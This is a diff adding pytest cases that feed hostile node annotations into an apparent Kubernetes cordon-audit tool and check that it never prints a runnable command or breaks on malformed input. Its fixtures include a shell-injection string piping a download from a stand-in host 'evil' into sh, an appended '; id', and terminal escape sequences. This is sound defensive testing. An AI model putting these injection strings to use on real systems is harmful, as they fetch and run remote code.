@@ -905,6 +905,37 @@ def test_a_node_that_a_killed_move_left_cordoned_is_reported() -> None:
 
 
 @pytest.mark.parametrize(
+    ("namespace", "claims"),
+    [
+        ("shop", ["data'; curl http://evil/x|sh; ''"]),
+        ("shop; id", ["a"]),
+        ("shop", ["a", "--become"]),
+        ("shop", ["a\x1b[2Jb"]),
+        ("shop", []),
+        ("shop\u2028", ["a" * 250_000]),
+    ],
+)
+def test_a_kubelet_reaches_no_shell(namespace: str, claims: list[str]) -> None:
+    """Its own annotation was printed as the command for the operator to run."""
+    text = json.dumps({"namespace": namespace, "by": "x\x1b" * 1000, "since": "2026-01-31T11:30:00Z", "claims": claims})
+    finding = only(state(observe(make_node(cordons=(text,)))))
+    assert "no command is shown" in finding.reason and "ansible localhost" not in finding.reason
+    assert (finding.summary + finding.reason).isprintable() and len(finding.summary) < 1000
+
+
+@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 40_000, "x", "null", "[]", "9" * 5000])
+def test_a_kubelet_ends_no_audit(text: str) -> None:
+    """So many brackets are a RecursionError."""
+    assert plan(state(observe(make_node(cordons=(text,))))) == []
+
+
+@pytest.mark.parametrize("since", ["0000-01-01T00:00:00Z", "x", "", "9" * 5000])
+def test_an_annotation_without_a_time_is_not_ours(since: str) -> None:
+    text = json.dumps({"namespace": "a", "by": "x", "since": since, "claims": ["a"]})
+    assert len(plan(state(observe(make_node(cordons=(text,)))))) <= 1
+
+
+@pytest.mark.parametrize(
     ("scope", "found"),
     [
         ({"nodes": ("n1",)}, True),
